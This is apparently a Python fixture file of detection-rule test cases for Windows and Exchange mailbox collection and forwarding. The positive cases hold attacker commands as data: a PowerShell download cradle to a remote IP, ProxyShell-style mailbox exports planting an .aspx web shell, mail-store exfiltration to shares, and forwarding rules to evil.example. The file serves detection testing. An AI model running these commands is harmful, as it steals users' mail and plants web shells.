"""Fixture cases of the Windows / Exchange Server rules (AN1309), rendered into every
platform's shape by tools/gen_windows_fixtures.py. Each rule gets positives with the evasions
its description claims to survive and benign near-misses it must stay quiet on."""

PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
OUTLOOK = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
EXCH = "EXCH01.contoso.local"


def proc(image, cmd, ofn=None, **kw):
    return {"kind": "process", "image": image, "cmd": cmd, "ofn": ofn, **kw}


def ps(cmd, **kw):
    return proc(PS, cmd, "PowerShell.EXE", **kw)


def sb(text, **kw):
    return {"kind": "script_block", "text": text, **kw}


def msx(cmdlet, params, **kw):
    return {"kind": "exchange_cmdlet", "cmdlet": cmdlet, "params": params, **kw}


def case(name, description, events, match=(), no_match=(), **kw):
    return {
        "name": name,
        "description": description,
        "events": events,
        "match": list(match),
        "no_match": list(no_match),
        **kw,
    }


def pos(rule, name, description, *events, **kw):
    return case(name, description, list(events), match=[rule], **kw)


def neg(rule, name, description, *events, **kw):
    return case(name, description, list(events), no_match=[rule], **kw)


FIXTURES = {}

# --- T1114.001 local collection ---------------------------------------------------------
R = "win_outlook_data_file_created_by_non_outlook"
FIXTURES[R] = [
    pos(
        R,
        "robocopy_stages_ost",
        "robocopy copies the user's OST into a staging folder under ProgramData.",
        {
            "kind": "file",
            "image": "C:\\Windows\\System32\\Robocopy.exe",
            "target": "C:\\ProgramData\\pkg\\bob@contoso.com.ost",
        },
    ),
    pos(
        R,
        "powershell_copies_archive_pst_mixed_case",
        "PowerShell writes a copy of an archive PST with an upper-case extension (Elastic: Defend creation).",
        {"kind": "file", "image": PS, "target": "D:\\Temp\\Archive.PST", "via": "defend"},
    ),
    pos(
        R,
        "renamed_collector_nst",
        "An unsigned collector renamed svc.exe writes an NST (Elastic: Defend rename).",
        {
            "kind": "file",
            "image": "C:\\Users\\Public\\svc.exe",
            "target": "C:\\Users\\Public\\cache.nst",
            "via": "defend",
            "action": "rename",
        },
    ),
    neg(
        R,
        "outlook_writes_its_own_ost",
        "Outlook itself creates its OST in the user's profile: the expected writer.",
        {
            "kind": "file",
            "image": OUTLOOK,
            "target": "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Outlook\\bob@contoso.com.ost",
        },
    ),
    neg(
        R,
        "scanpst_repairs_archive",
        "The Inbox Repair Tool writes a repaired copy of a PST.",
        {
            "kind": "file",
            "image": "C:\\Program Files\\Microsoft Office\\root\\Office16\\SCANPST.EXE",
            "target": "C:\\Users\\bob\\Documents\\Outlook Files\\archive.bak.pst",
        },
    ),
    neg(
        R,
        "backup_agent_writes_pstats_report",
        "A backup agent writes a statistics file whose name contains .pst but is not an Outlook data file.",
        {
            "kind": "file",
            "image": "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe",
            "target": "C:\\ProgramData\\Veeam\\Backup\\job.pstats.log",
            "via": "defend",
        },
    ),
]

R = "win_mail_store_access_by_non_mail_client"
FIXTURES[R] = [
    pos(
        R,
        "python_reads_ost",
        "A Python collector reads the user's OST (object access audited).",
        {
            "kind": "object_access",
            "process": "C:\\Users\\bob\\AppData\\Local\\Programs\\Python\\Python311\\python.exe",
            "object": "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Outlook\\bob@contoso.com.ost",
        },
    ),
    pos(
        R,
        "fake_outlook_outside_office_folder",
        "A binary named OUTLOOK.EXE but running from Temp reads a PST: the filter is by full path.",
        {
            "kind": "object_access",
            "process": "C:\\Users\\bob\\AppData\\Local\\Temp\\OUTLOOK.EXE",
            "object": "D:\\Mail\\archive2019.PST",
        },
    ),
    pos(
        R,
        "rclone_reads_thunderbird_imap",
        "rclone reads a Thunderbird IMAP mail folder (forwarded Security event on Elastic).",
        {
            "kind": "object_access",
            "process": "C:\\Tools\\rclone.exe",
            "object": "C:\\Users\\bob\\AppData\\Roaming\\Thunderbird\\Profiles\\x1y2z3.default-release\\ImapMail\\imap.contoso.com\\INBOX",
            "dataset": "system.security",
        },
    ),
    pos(
        R,
        "cmd_reads_windows_mail_unistore",
        "cmd.exe (copy) reads the Windows Mail Unistore database.",
        {
            "kind": "object_access",
            "process": CMD,
            "object": "C:\\Users\\bob\\AppData\\Local\\Comms\\UnistoreDB\\store.vol",
        },
    ),
    neg(
        R,
        "outlook_opens_its_ost",
        "Outlook opening its own OST.",
        {
            "kind": "object_access",
            "process": OUTLOOK,
            "object": "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Outlook\\bob@contoso.com.ost",
        },
    ),
    neg(
        R,
        "windows_server_backup_reads_pst",
        "Windows Server Backup reading a PST on a file server.",
        {
            "kind": "object_access",
            "process": "C:\\Windows\\System32\\wbengine.exe",
            "object": "E:\\Shares\\Home\\bob\\archive.pst",
        },
    ),
    neg(
        R,
        "defender_scans_pst",
        "Microsoft Defender scanning a PST.",
        {
            "kind": "object_access",
            "process": "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe",
            "object": "C:\\Users\\bob\\Documents\\Outlook Files\\archive.pst",
        },
    ),
    neg(
        R,
        "thunderbird_reads_its_mail",
        "Thunderbird reading its own profile mail.",
        {
            "kind": "object_access",
            "process": "C:\\Program Files\\Mozilla Thunderbird\\thunderbird.exe",
            "object": "C:\\Users\\bob\\AppData\\Roaming\\Thunderbird\\Profiles\\x1y2z3.default-release\\Mail\\Local Folders\\Inbox",
        },
    ),
    neg(
        R,
        "notepad_reads_postscript",
        "A process reading a file whose extension only starts like .pst (report.pstx).",
        {
            "kind": "object_access",
            "process": "C:\\Windows\\System32\\notepad.exe",
            "object": "C:\\Users\\bob\\Documents\\report.pstx",
        },
    ),
]

R = "win_mail_store_copy_or_archive"
FIXTURES[R] = [
    pos(
        R,
        "robocopy_outlook_folder_quoted",
        "robocopy copies *.ost out of the Outlook folder, paths in double quotes.",
        proc(
            "C:\\Windows\\System32\\Robocopy.exe",
            'robocopy "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Outlook" "\\\\10.9.8.7\\drop" *.ost /R:0',
            "robocopy.exe",
        ),
    ),
    pos(
        R,
        "renamed_7zip_archives_pst",
        "7-Zip renamed to update.exe archives a PST: caught by OriginalFileName (Elastic: Defend).",
        proc(
            "C:\\Users\\Public\\update.exe",
            "update.exe a -p1234 C:\\Users\\Public\\m.7z C:\\Users\\bob\\Documents\\Outlook' 'Files\\Archive.PsT",
            "7z.exe",
            via="defend",
        ),
    ),
    pos(
        R,
        "esentutl_copies_unistore",
        "esentutl copies the locked Windows Mail store (Security 4688 on native/Splunk/Elastic).",
        proc(
            "C:\\Windows\\System32\\esentutl.exe",
            "esentutl.exe /y C:\\Users\\bob\\AppData\\Local\\Comms\\UnistoreDB\\store.vol /vss /d C:\\Windows\\Temp\\s.vol",
            via="security",
        ),
    ),
    pos(
        R,
        "powershell_backtick_copy_item",
        "PowerShell Copy-Item written with backticks copies a PST.",
        ps(
            "powershell -nop -c \"Co`py-It`em 'C:\\Users\\bob\\Documents\\Outlook Files\\archive.pst' C:\\Windows\\Temp\\a.tmp\""
        ),
    ),
    pos(
        R,
        "cmd_copy_thunderbird_profile",
        "cmd copy of a Thunderbird profile's Inbox.",
        proc(
            CMD,
            'cmd.exe /c copy "C:\\Users\\bob\\AppData\\Roaming\\Thunderbird\\Profiles\\x1y2z3.default\\Mail\\Local Folders\\Inbox" C:\\ProgramData\\i.dat',
            "Cmd.Exe",
        ),
    ),
    neg(
        R,
        "cmd_lists_pst_files",
        "cmd dir listing PSTs: no copy verb.",
        proc(CMD, "cmd.exe /c dir /s C:\\Users\\bob\\*.pst", "Cmd.Exe"),
    ),
    neg(
        R,
        "scanpst_opens_ost",
        "The Inbox Repair Tool opened on an OST: not a copy or archive tool.",
        proc(
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\SCANPST.EXE",
            "SCANPST.EXE C:\\Users\\bob\\AppData\\Local\\Microsoft\\Outlook\\bob@contoso.com.ost",
        ),
    ),
    neg(
        R,
        "backup_copies_pstats_csv",
        "A backup script copies q3.pstats.csv: .pst is not the extension.",
        proc(
            "C:\\Windows\\System32\\Robocopy.exe",
            "robocopy C:\\Reports \\\\backup01\\reports q3.pstats.csv /Z",
            "robocopy.exe",
        ),
    ),
]

OUTLOOK_COM_SCRIPT = """Add-Type -AssemblyName "Microsoft.Office.Interop.Outlook"
$olFolders = "Microsoft.Office.Interop.Outlook.OlDefaultFolders" -as [type]
$outlook = New-Object -ComObject Outlook.Application
$namespace = $outlook.GetNameSpace("MAPI")
$inbox = $namespace.GetDefaultFolder($olFolders::olFolderInbox)
$inbox.Items | Select-Object -Property Subject, ReceivedTime, SenderName, Body"""
R = "win_outlook_automation_script"
FIXTURES[R] = [
    pos(
        R,
        "get_inbox_procedure",
        "The public Get-Inbox procedure: interop assembly, MAPI namespace, default Inbox items.",
        sb(OUTLOOK_COM_SCRIPT),
    ),
    pos(
        R,
        "backticks_and_single_quotes",
        "Backtick-escaped names and single-quoted MAPI; Restrict filter and SaveAs to disk.",
        sb(
            "$o = New-Object -Com 'Outl`ook.Appli`cation'; $n = $o.GetN`amespace('MAPI'); $f = $n.GetDefaultFolder(6).Items.Restrict(\"[Unread] = true\"); foreach ($m in $f) { $m.SaveAs(\"C:\\Users\\Public\\m\\$($m.EntryID).msg\") }",
            dataset="windows.forwarded",
        ),
    ),
    pos(
        R,
        "mixed_case_shared_folder",
        "Mixed-case names reading another user's shared Inbox.",
        sb(
            "$ol=new-object -comobject OUTLOOK.APPLICATION;$ns=$ol.GETNAMESPACE('MAPI');$r=$ns.CreateRecipient('ceo');$ns.getshareddefaultfolder($r,6).items|%{$_.Body}"
        ),
    ),
    pos(
        R,
        "all_lower_case_one_line",
        "The whole script in lower case: Elastic's script_block_text is a text field, matched on its value in any case.",
        sb(
            "$o=new-object -comobject outlook.application;$o.getnamespace('mapi').getdefaultfolder(6).items|%{$_.subject}"
        ),
    ),
    neg(
        R,
        "report_sent_through_outlook",
        "A reporting script creates and sends one message through Outlook; it reads no mail.",
        sb(
            "$ol = New-Object -ComObject Outlook.Application\n$mail = $ol.CreateItem(0)\n$mail.To = 'it-reports@contoso.com'\n$mail.Subject = 'Disk report'\n$mail.Send()"
        ),
    ),
    neg(
        R,
        "outlook_profile_registry_script",
        "Profile deployment script touching Outlook registry keys, no COM.",
        sb(
            "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Office\\16.0\\Outlook\\AutoDiscover' -Name ExcludeHttpsRootDomain -Value 1"
        ),
    ),
]

R = "win_outlook_automation_cmdline"
FIXTURES[R] = [
    pos(
        R,
        "one_liner_comobject",
        "PowerShell one-liner reads the Inbox through -ComObject Outlook.Application.",
        ps(
            "powershell.exe -c \"$o=New-Object -ComObject Outlook.Application;$o.GetNamespace('MAPI').GetDefaultFolder(6).Items|select Subject\""
        ),
    ),
    pos(
        R,
        "renamed_powershell_backticks",
        "PowerShell renamed to winupd.exe with backtick-escaped names (Elastic: Defend).",
        proc(
            "C:\\ProgramData\\winupd.exe",
            'winupd.exe -c "(New-Object -ComObject Out`look.Applic`ation).GetNames`pace(""MAPI"").GetDefaultFolder(6).Items"',
            "PowerShell.EXE",
            via="defend",
        ),
    ),
    pos(
        R,
        "vbscript_createobject",
        'A VBScript host reads mail through CreateObject("Outlook.Application") passed inline (Security 4688).',
        proc(
            "C:\\Windows\\System32\\mshta.exe",
            'mshta vbscript:Execute("Set o=CreateObject(""Outlook.Application""):Set f=o.GetNamespace(""MAPI"").GetDefaultFolder(6):close")',
            via="security",
        ),
    ),
    neg(
        R,
        "outlook_started_normally",
        "Outlook started with a profile switch.",
        proc(
            OUTLOOK,
            '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /profile Work',
            "Outlook.exe",
        ),
    ),
    neg(
        R,
        "send_report_one_liner",
        "One-liner that only sends a message through Outlook.",
        ps(
            "powershell -c \"$o=New-Object -ComObject Outlook.Application;$m=$o.CreateItem(0);$m.To='ops@contoso.com';$m.Send()\""
        ),
    ),
]

R = "win_mail_hunting_tool_script"
FIXTURES[R] = [
    pos(
        R,
        "mailsniper_global_search",
        "MailSniper's Invoke-GlobalMailSearch across all mailboxes.",
        sb(
            "Import-Module .\\MailSniper.ps1\nInvoke-GlobalMailSearch -ImpersonationAccount svc-ews -ExchHostname mail.contoso.com -OutputCsv C:\\Users\\Public\\out.csv -Terms 'password','vpn'"
        ),
    ),
    pos(
        R,
        "mailsniper_backticks",
        "Invoke-SelfSearch with backtick escapes, in lower case.",
        sb(
            "invoke-self`search -mailbox bob@contoso.com -terms *secret* -remote",
            dataset="windows.forwarded",
        ),
    ),
    pos(
        R,
        "ews_managed_api_finditems",
        "EWS Managed API script paging through a mailbox with FindItems.",
        sb(
            "Add-Type -Path 'C:\\Program Files\\Microsoft\\Exchange\\Web Services\\2.2\\Microsoft.Exchange.WebServices.dll'\n$svc = New-Object Microsoft.Exchange.WebServices.Data.ExchangeService\n$svc.ImpersonatedUserId = New-Object Microsoft.Exchange.WebServices.Data.ImpersonatedUserId('SmtpAddress','ceo@contoso.com')\n$view = New-Object Microsoft.Exchange.WebServices.Data.ItemView(500)\n$svc.FindItems([Microsoft.Exchange.WebServices.Data.WellKnownFolderName]::Inbox, $view)"
        ),
    ),
    neg(
        R,
        "ews_availability_check",
        "An EWS script that only reads free/busy data: no item search.",
        sb(
            "$svc = New-Object Microsoft.Exchange.WebServices.Data.ExchangeService\n$svc.AutodiscoverUrl('room1@contoso.com')\n$svc.GetUserAvailability($attendees, $window, 'FreeBusy')"
        ),
    ),
    neg(
        R,
        "get_mailbox_statistics",
        "Administrator reporting mailbox sizes.",
        sb(
            "Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Sort-Object TotalItemSize -Descending | Select-Object -First 20"
        ),
    ),
]

R = "win_mail_hunting_tool_cmdline"
FIXTURES[R] = [
    pos(
        R,
        "mailsniper_one_liner",
        "MailSniper imported and run from a download cradle.",
        ps(
            "powershell -ep bypass -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/ms.ps1'); Invoke-GlobalO365MailSearch -UserName a@contoso.com -Terms pass\""
        ),
    ),
    pos(
        R,
        "ruler_renamed_abk_dump",
        "Ruler renamed to r.exe dumps the global address list (Security 4688).",
        proc(
            "C:\\Users\\bob\\Downloads\\r.exe",
            "r.exe --email bob@contoso.com --username bob --password Winter2026 abk dump --output gal.txt",
            via="security",
        ),
    ),
    pos(
        R,
        "ruler_by_image",
        "Ruler run under its own name to list rules (Elastic: Defend).",
        proc(
            "C:\\Tools\\ruler.exe", "ruler.exe --o365 --email bob@contoso.com display", via="defend"
        ),
    ),
    neg(
        R,
        "curl_with_email_flag",
        "A tool with an --email flag but none of Ruler's commands.",
        proc(
            "C:\\Program Files\\Git\\mingw64\\bin\\git.exe",
            "git.exe config --global user.email bob@contoso.com",
        ),
    ),
    neg(
        R,
        "admin_mailbox_report",
        "Exchange admin reporting mailbox folders with a built-in cmdlet.",
        ps('powershell -c "Get-MailboxFolderStatistics bob | select Name,ItemsInFolder"'),
    ),
]

# --- T1114.002 Exchange Server ------------------------------------------------------------
R = "win_exchange_new_mailbox_export_request"
FIXTURES[R] = [
    pos(
        R,
        "export_to_unc_share",
        "Exchange Management Shell exports the CEO mailbox to a UNC path in the web root, the ProxyShell post-exploitation pattern.",
        ps(
            'powershell.exe -NoProfile -Command "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxExportRequest -Mailbox ceo@contoso.com -FilePath \\\\EXCH01\\c$\\inetpub\\wwwroot\\aspnet_client\\ceo.pst"',
            parent=CMD,
            host=EXCH,
            user="CONTOSO\\exadmin",
        ),
    ),
    pos(
        R,
        "lower_case_via_security_4688",
        "Same cmdlet typed in lower case and launched through cmd.exe, seen as Security 4688.",
        proc(
            CMD,
            "cmd.exe /c powershell -c \"new-mailboxexportrequest -mailbox 'j.doe' -filepath '\\\\10.10.4.20\\loot\\jdoe.pst'\"",
            via="security",
            host=EXCH,
        ),
    ),
    pos(
        R,
        "renamed_powershell_backticks",
        "Renamed PowerShell (OriginalFileName PowerShell.EXE) with a backtick-escaped cmdlet (Elastic: Defend).",
        proc(
            "C:\\Windows\\Temp\\ps.exe",
            'ps.exe -c "New-Mailbox`Export`Request -Mailbox cfo -FilePath \\\\localhost\\c$\\temp\\x.pst"',
            "PowerShell.EXE",
            via="defend",
            host=EXCH,
        ),
    ),
    neg(
        R,
        "get_export_request_status",
        "Administrator checks export requests: Get-MailboxExportRequest is not the creating cmdlet.",
        ps(
            'powershell -c "Get-MailboxExportRequest | Get-MailboxExportRequestStatistics"',
            host=EXCH,
        ),
    ),
    neg(
        R,
        "import_request_to_approved_share",
        "Documented import of a PST from the approved share: New-MailboxImportRequest.",
        ps(
            'powershell -c "New-MailboxImportRequest -Mailbox j.doe -FilePath \\\\fs01\\pst-imports$\\jdoe.pst"',
            host=EXCH,
        ),
    ),
]

R = "win_exchange_mailbox_export_script"
FIXTURES[R] = [
    pos(
        R,
        "export_in_script_block",
        "A script block exports a mailbox to a share.",
        sb(
            "New-MailboxExportRequest -Mailbox ceo@contoso.com -FilePath '\\\\EXCH01\\c$\\Windows\\Temp\\ceo.pst' -ContentFilter {Received -gt '01/01/2026'}",
            host=EXCH,
        ),
    ),
    pos(
        R,
        "backtick_mixed_case_export",
        "Mixed-case, backtick-escaped cmdlet in a forwarded script block.",
        sb(
            "nEw-MaIl`boXeXpOrtReQuEsT -mailbox cfo -filepath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\s.aspx",
            host=EXCH,
            dataset="windows.forwarded",
        ),
    ),
    neg(
        R,
        "admin_documented_export_review",
        "Administrator lists completed export requests for the legal-hold ticket.",
        sb("Get-MailboxExportRequest -Status Completed | Select Mailbox,FilePath", host=EXCH),
    ),
    neg(
        R,
        "pst_import",
        "Import of a PST into a mailbox.",
        sb(
            "New-MailboxImportRequest -Mailbox j.doe -FilePath \\\\fs01\\pst-imports$\\jdoe.pst",
            host=EXCH,
        ),
    ),
]

R = "win_exchange_management_mailbox_export"
R2 = "win_exchange_management_mailbox_export_to_webroot"
FIXTURES[R] = [
    case(
        "proxyshell_export_to_aspnet_client",
        "ProxyShell: remote PowerShell through IIS exports a mailbox into aspnet_client as an .aspx file.",
        [
            msx(
                "New-MailboxExportRequest",
                '-Mailbox "ceo@contoso.com" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\shell.aspx" -IncludeFolders "#Drafts#"',
                client="Remote-ManagementShell-Unknown",
            )
        ],
        match=[R, R2],
    ),
    case(
        "failed_export_to_localhost_share",
        "A failed export attempt (event 6) to the server's own admin share still counts.",
        [
            msx(
                "New-MailboxExportRequest",
                '-Mailbox "cfo" -FilePath "\\\\localhost\\C$\\Windows\\Temp\\cfo.pst"',
                failed=True,
            )
        ],
        match=[R, R2],
    ),
    case(
        "documented_export_to_approved_share",
        "Administrator's documented legal-hold export to the approved file share.",
        [
            msx(
                "New-MailboxExportRequest",
                '-Mailbox "j.doe" -FilePath "\\\\fs01\\legal-hold$\\2026-114\\jdoe.pst"',
            )
        ],
        match=[R],
        no_match=[R2],
    ),
    case(
        "same_channel_transport_agent",
        "Same channel, another cmdlet: Install-TransportAgent (shape of the public MSExchange Management sample).",
        [
            msx(
                "Install-TransportAgent",
                '-Name "Contoso Disclaimer" -TransportAgentFactory "Contoso.Disclaimer.Factory" -AssemblyPath "C:\\Program Files\\Contoso\\Disclaimer.dll"',
            )
        ],
        no_match=[R, R2],
    ),
    case(
        "export_request_status",
        "Get-MailboxExportRequest names the export cmdlet's noun but creates nothing.",
        [msx("Get-MailboxExportRequest", '-Status "Completed"')],
        no_match=[R, R2],
    ),
]
FIXTURES[R2] = [
    pos(
        R2,
        "export_to_frontend_httpproxy",
        "Export written under the FrontEnd HttpProxy folder.",
        msx(
            "New-MailboxExportRequest",
            '-Mailbox "hr" -FilePath "\\\\EXCH01\\d$\\Exchange\\FrontEnd\\HttpProxy\\owa\\auth\\x.aspx"',
        ),
    ),
    pos(
        R2,
        "export_as_ashx_to_share",
        "Export with a web-handler extension.",
        msx(
            "New-MailboxExportRequest", '-Mailbox "it" -FilePath "\\\\10.1.1.5\\share\\update.ashx"'
        ),
    ),
    neg(
        R2,
        "documented_export_to_approved_share_2",
        "Migration export to the approved share.",
        msx(
            "New-MailboxExportRequest",
            '-Mailbox "leaver01" -FilePath "\\\\fs01\\migrations$\\leaver01.pst"',
        ),
    ),
    neg(
        R2,
        "webroot_path_in_other_cmdlet",
        "A web-root path in an unrelated cmdlet.",
        msx(
            "Set-OwaVirtualDirectory",
            '-Identity "EXCH01\\owa (Default Web Site)" -InternalUrl "https://mail.contoso.com/owa" -LogonPagePublicPrivateSelectionEnabled "True"',
        ),
    ),
]

R = "win_exchange_management_export_role_or_cleanup"
FIXTURES[R] = [
    pos(
        R,
        "role_granted_single_quotes",
        "The Mailbox Import Export role granted to a compromised account.",
        msx(
            "New-ManagementRoleAssignment",
            '-Role "Mailbox Import Export" -User "contoso.local/Users/svc-backup"',
        ),
    ),
    case(
        "export_request_removed",
        "Remove-MailboxExportRequest cleans up after an export: routine on its own, a hunting signal "
        "(win_exchange_management_export_request_removed), not the role grant.",
        [msx("Remove-MailboxExportRequest", '-Identity "ceo\\MailboxExport" -Confirm "False"')],
        match=["win_exchange_management_export_request_removed"],
        no_match=[R],
    ),
    neg(
        R,
        "other_role_granted",
        "Another management role granted.",
        msx("New-ManagementRoleAssignment", '-Role "Mail Recipients" -SecurityGroup "Helpdesk"'),
    ),
    neg(
        R,
        "import_request_removed",
        "Completed import requests removed.",
        msx("Remove-MailboxImportRequest", '-Identity "j.doe\\MailboxImport"'),
    ),
]

R = "win_exchange_management_mailbox_search"
FIXTURES[R] = [
    pos(
        R,
        "search_mailbox_copies_to_target",
        "Search-Mailbox copies matching items to another mailbox.",
        msx(
            "Search-Mailbox",
            '-Identity "ceo" -SearchQuery "password OR invoice" -TargetMailbox "svc-backup" -TargetFolder "Loot" -LogLevel "Off"',
        ),
    ),
    pos(
        R,
        "compliance_search_export",
        "A compliance search action exports results.",
        msx("New-ComplianceSearchAction", '-SearchName "q3" -Export -Format "FxStream"'),
    ),
    pos(
        R,
        "in_place_ediscovery",
        "New-MailboxSearch (In-Place eDiscovery).",
        msx(
            "New-MailboxSearch",
            '-Name "hold1" -SourceMailboxes "cfo" -TargetMailbox "Discovery Search Mailbox"',
        ),
    ),
    neg(
        R,
        "search_estimate_only",
        "Search-Mailbox estimating results only.",
        msx("Search-Mailbox", '-Identity "ceo" -SearchQuery "invoice" -EstimateResultOnly'),
    ),
    neg(
        R,
        "compliance_search_purge",
        "A compliance search action purging phishing mail: deletion, not collection.",
        msx(
            "New-ComplianceSearchAction", '-SearchName "phish-0311" -Purge -PurgeType "SoftDelete"'
        ),
    ),
]

R = "win_exchange_mailbox_search_script"
FIXTURES[R] = [
    pos(
        R,
        "search_mailbox_abbreviated_target",
        "Search-Mailbox with an abbreviated -TargetM parameter.",
        sb(
            "Get-Mailbox -ResultSize Unlimited | Search-Mailbox -SearchQuery 'password' -TargetM svc -TargetF loot",
            host=EXCH,
        ),
    ),
    pos(
        R,
        "compliance_export_backticks",
        "New-ComplianceSearchAction with backticks and an abbreviated -Exp.",
        sb(
            "New-ComplianceSearch -Name x -ExchangeLocation All -ContentMatchQuery 'secret'; Start-ComplianceSearch x; New-Compliance`SearchAction -SearchName x -Exp",
            host=EXCH,
        ),
    ),
    pos(
        R,
        "search_mailbox_all_lower_case",
        "Search-Mailbox copying results to a target mailbox, typed in lower case.",
        sb(
            "get-mailbox -resultsize unlimited | search-mailbox -searchquery 'password' -targetmailbox svc -targetfolder loot",
            host=EXCH,
        ),
    ),
    neg(
        R,
        "estimate_only",
        "Search-Mailbox estimating only.",
        sb("Search-Mailbox -Identity ceo -SearchQuery invoice -EstimateResultOnly", host=EXCH),
    ),
    neg(
        R,
        "compliance_purge",
        "Compliance search action purging phishing mail.",
        sb(
            "New-ComplianceSearchAction -SearchName phish-0311 -Purge -PurgeType SoftDelete -Confirm:$false",
            host=EXCH,
        ),
    ),
]

R = "win_exchange_snapin_unusual_parent"
FIXTURES[R] = [
    pos(
        R,
        "w3wp_web_shell_loads_snapin",
        "IIS worker (web shell) starts PowerShell that loads the Exchange snap-in.",
        ps(
            'powershell.exe -c "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Get-Mailbox | Select PrimarySmtpAddress"',
            parent="C:\\Windows\\System32\\inetsrv\\w3wp.exe",
            host=EXCH,
        ),
    ),
    pos(
        R,
        "umworker_backtick_e2010",
        "UMWorkerProcess starts renamed PowerShell with a backtick-escaped E2010 snap-in (Elastic: Defend).",
        proc(
            "C:\\Windows\\Temp\\svchost.exe",
            'svchost.exe -c "Add-PS`Snapin Microsoft.Exchange.Management.PowerShell.E2010"',
            "PowerShell.EXE",
            parent="C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe",
            via="defend",
            host=EXCH,
        ),
    ),
    neg(
        R,
        "admin_shell_from_explorer",
        "Administrator loads the snap-in from an interactive shell.",
        ps(
            'powershell.exe -noexit -c "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn"',
            parent="C:\\Windows\\explorer.exe",
            host=EXCH,
        ),
    ),
    neg(
        R,
        "w3wp_starts_csc",
        "IIS worker starting the C# compiler (ASP.NET), no snap-in.",
        proc(
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
            'csc.exe /noconfig /fullpaths @"C:\\Windows\\TEMP\\x.cmdline"',
            parent="C:\\Windows\\System32\\inetsrv\\w3wp.exe",
            host=EXCH,
        ),
    ),
]

# --- T1114.003 forwarding -----------------------------------------------------------------
R = "win_exchange_forwarding_cmdlet_script"
FIXTURES[R] = [
    pos(
        R,
        "set_mailbox_abbreviated_param",
        "Set-Mailbox with the abbreviated -ForwardingSmtp parameter.",
        sb(
            "Set-Mailbox -Identity ceo -ForwardingSmtp 'smtp:x@evil.example' -DeliverToMailboxAndForward $true"
        ),
    ),
    pos(
        R,
        "inbox_rule_backticks_colon",
        "New-InboxRule with backticks and a colon-bound -ForwardTo value.",
        sb(
            "New-Inbox`Rule -Name '.' -Mailbox cfo -From bank@contoso.com -ForwardTo:\"x@evil.example\" -StopProcessingRules $true",
            dataset="windows.forwarded",
        ),
    ),
    pos(
        R,
        "transport_rule_bcc_en_dash",
        "New-TransportRule BCCing all mail, with an en dash before the parameter.",
        sb(
            "new-transportrule -Name 'Journal' \u2013BlindCopyTo archive@evil.example -SentToScope InOrganization"
        ),
    ),
    pos(
        R,
        "inbox_rule_split_across_lines",
        "New-InboxRule written over several lines with backtick continuations: the cmdlet and -ForwardTo sit on different lines of one script block.",
        sb(
            "new-inboxrule -Name 'sync' `\n    -Mailbox cfo `\n    -SubjectContainsWords 'invoice' `\n    -ForwardTo 'x@evil.example'"
        ),
    ),
    neg(
        R,
        "set_mailbox_clears_forwarding",
        "Set-Mailbox clearing forwarding after an incident.",
        sb(
            "Set-Mailbox -Identity ceo -ForwardingSmtpAddress $null -DeliverToMailboxAndForward $false"
        ),
    ),
    neg(
        R,
        "inbox_rule_moves_newsletters",
        "New-InboxRule moving newsletters to a folder.",
        sb(
            "New-InboxRule -Name Newsletters -Mailbox bob -From news@vendor.example -MoveToFolder 'bob:\\Newsletters'"
        ),
    ),
    neg(
        R,
        "audit_forwarding_settings",
        "Audit of forwarding settings (reads the property, sets nothing).",
        sb(
            "Get-Mailbox -ResultSize Unlimited | Where-Object {$_.ForwardingSmtpAddress} | Select Name,ForwardingSmtpAddress"
        ),
    ),
]

R = "win_exchange_forwarding_cmdlet_cmdline"
FIXTURES[R] = [
    pos(
        R,
        "set_mailbox_one_liner_double_quotes",
        "Set-Mailbox -ForwardingSmtpAddress from a one-liner, value in double quotes.",
        ps(
            'powershell.exe -c "Set-Mailbox -Identity \'cfo\' -ForwardingSmtpAddress ""smtp:drop@evil.example"""',
            host=EXCH,
        ),
    ),
    pos(
        R,
        "renamed_powershell_inbox_rule_redirect",
        "Renamed PowerShell creates a redirect rule with an abbreviated -Red parameter (Security 4688).",
        proc(
            "C:\\Users\\Public\\p.exe",
            "p.exe -c \"Set-InboxRule -Identity 'bob\\r1' -Red x@evil.example\"",
            via="security",
        ),
    ),
    pos(
        R,
        "transport_rule_redirect_mixed_case",
        "Mixed-case New-TransportRule with -RedirectMessageTo (Elastic: forwarded Sysmon).",
        ps(
            'powershell -c "NEW-TRANSPORTRULE -name r -SentTo ceo@contoso.com -REDIRECTMESSAGETO x@evil.example"',
            via="forwarded",
        ),
    ),
    neg(
        R,
        "set_mailbox_quota",
        "Set-Mailbox changing quotas.",
        ps('powershell -c "Set-Mailbox bob -ProhibitSendQuota 10GB"'),
    ),
    neg(
        R,
        "clear_forwarding_empty_string",
        "Set-Mailbox clearing forwarding with an empty string.",
        ps("powershell -c \"Set-Mailbox bob -ForwardingAddress '' \""),
    ),
]

R = "win_exchange_management_forwarding"
FIXTURES[R] = [
    pos(
        R,
        "set_mailbox_forwarding_smtp",
        "Set-Mailbox -ForwardingSmtpAddress recorded by Exchange.",
        msx(
            "Set-Mailbox",
            '-Identity "contoso.local/Users/ceo" -ForwardingSmtpAddress "smtp:x@evil.example" -DeliverToMailboxAndForward "True"',
        ),
    ),
    pos(
        R,
        "inbox_rule_forward_as_attachment",
        "New-InboxRule forwarding as attachment, run remotely.",
        msx(
            "New-InboxRule",
